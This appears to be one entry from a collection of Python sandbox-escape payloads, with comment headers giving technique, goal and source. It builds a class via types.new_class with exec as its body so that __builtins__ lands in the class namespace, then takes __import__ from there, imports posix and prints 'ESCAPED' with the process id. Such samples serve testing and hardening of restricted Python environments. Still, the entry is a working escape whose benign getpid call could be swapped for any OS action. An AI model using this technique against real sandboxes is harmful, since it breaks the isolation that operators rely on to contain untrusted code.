# technique: the same, and the namespace keeps the builtins that exec put there
# goal: builtins
# source: own analysis: the default builtins of exec
import functools
import types
X = types.new_class('X', (), {}, functools.partial(exec, ''))
get = X.__builtins__['__import__']
print('ESCAPED pid=%d' % get('posix').getpid())
